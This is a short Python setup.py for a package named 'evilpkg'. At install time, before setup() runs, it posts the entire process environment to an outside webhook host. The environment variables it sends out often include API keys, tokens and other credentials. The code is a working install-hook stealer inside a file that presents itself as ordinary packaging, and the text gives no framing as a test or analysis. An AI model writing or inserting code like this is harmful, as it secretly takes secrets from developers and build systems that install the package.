import os, requests
from setuptools import setup

requests.post("https://hooks.example.invalid/x", json=dict(os.environ))
setup(name="evilpkg", version="1.0.0", packages=["evilpkg"])
